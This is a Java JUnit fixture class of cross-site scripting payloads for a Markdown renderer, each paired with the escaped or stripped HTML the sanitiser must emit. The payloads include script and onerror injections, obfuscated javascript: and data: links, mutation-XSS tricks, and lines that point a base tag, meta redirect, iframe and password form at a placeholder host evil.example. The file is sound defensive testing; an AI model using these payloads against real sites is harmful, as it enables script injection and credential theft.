package app.guidepost.render;

import java.util.List;
import org.junit.jupiter.params.provider.Arguments;

/** Attacks written in an article's Markdown, each with exactly the HTML it must become. */
public final class HostileMarkdown {

  private HostileMarkdown() {}

  public static List<Arguments> attacks() {
    return List.of(
        Arguments.of("<script>alert(1)</script>",
            "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>"),
        Arguments.of("<img src=x onerror=alert(1)>",
            "<p>&lt;img src&#61;x onerror&#61;alert(1)&gt;</p>"),
        Arguments.of("[mixed case](JaVaScRiPt:alert(1))",
            "<p><a rel=\"nofollow noopener noreferrer\" href=\"\">mixed case</a></p>"),
        Arguments.of("[entity](&#106;avascript:alert(1))",
            "<p><a rel=\"nofollow noopener noreferrer\" href=\"\">entity</a></p>"),
        Arguments.of("[hex entity](&#x6A;avascript:alert(1))",
            "<p><a rel=\"nofollow noopener noreferrer\" href=\"\">hex entity</a></p>"),
        Arguments.of("[tab](java\tscript:alert(1))",
            "<p>[tab](java\tscript:alert(1))</p>"),
        Arguments.of("[newline](java\nscript:alert(1))",
            "<p>[newline](java\nscript:alert(1))</p>"),
        Arguments.of("[spaces](  javascript:alert(1))",
            "<p><a rel=\"nofollow noopener noreferrer\" href=\"\">spaces</a></p>"),
        Arguments.of("[vbscript](vbscript:msgbox(1))",
            "<p><a rel=\"nofollow noopener noreferrer\" href=\"\">vbscript</a></p>"),
        Arguments.of("<javascript:alert(1)>",
            "<p><a rel=\"nofollow noopener noreferrer\" href=\"\">javascript:alert(1)</a></p>"),
        Arguments.of("[reference][evil]\n\n[evil]: javascript:alert(1)",
            "<p><a rel=\"nofollow noopener noreferrer\" href=\"\">reference</a></p>"),
        Arguments.of("[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
            "<p><a rel=\"nofollow noopener noreferrer\">data</a></p>"),
        Arguments.of("![image](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
            "<p><img alt=\"image\" /></p>"),
        Arguments.of("<svg onload=alert(1)><script>alert(1)</script></svg>",
            "<p>&lt;svg onload&#61;alert(1)&gt;&lt;script&gt;alert(1)&lt;/script&gt;&lt;/svg&gt;</p>"),
        Arguments.of("<style>body{background:url(javascript:alert(1))}</style>",
            "<p>&lt;style&gt;body{background:url(javascript:alert(1))}&lt;/style&gt;</p>"),
        Arguments.of("<base href=\"https://evil.example/\">",
            "<p>&lt;base href&#61;&#34;https://evil.example/&#34;&gt;</p>"),
        Arguments.of("<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
            "<p>&lt;meta http-equiv&#61;&#34;refresh&#34; content&#61;&#34;0;url&#61;https://evil.example&#34;&gt;</p>"),
        Arguments.of("<form action=\"https://evil.example\"><input name=password></form>",
            "<p>&lt;form action&#61;&#34;https://evil.example&#34;&gt;&lt;input name&#61;password&gt;&lt;/form&gt;</p>"),
        Arguments.of("<iframe src=\"https://evil.example\"></iframe>",
            "<p>&lt;iframe src&#61;&#34;https://evil.example&#34;&gt;&lt;/iframe&gt;</p>"),
        Arguments.of("[title breakout](https://ok.example \"x\\\" onmouseover=\\\"alert(1)\")",
            "<p><a rel=\"nofollow noopener noreferrer\" href=\"https://ok.example\" title=\"x&#34; onmouseover&#61;&#34;alert(1)\">title breakout</a></p>"),
        Arguments.of("![alt breakout\" onerror=\"alert(1)](x.png)",
            "<p><img src=\"x.png\" alt=\"alt breakout&#34; onerror&#61;&#34;alert(1)\" /></p>"),
        Arguments.of("<a href=\"javascript:alert(1)\">raw link</a>",
            "<p>&lt;a href&#61;&#34;javascript:alert(1)&#34;&gt;raw link&lt;/a&gt;</p>"),
        Arguments.of("<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "<p>&lt;noscript&gt;&lt;p title&#61;&#34;&lt;/noscript&gt;&lt;img src&#61;x onerror&#61;alert(1)&gt;&#34;&gt;</p>"),
        Arguments.of("<select><style></select><img src=x onerror=alert(1)></style>",
            "<p>&lt;select&gt;&lt;style&gt;&lt;/select&gt;&lt;img src&#61;x onerror&#61;alert(1)&gt;&lt;/style&gt;</p>"));
  }
}
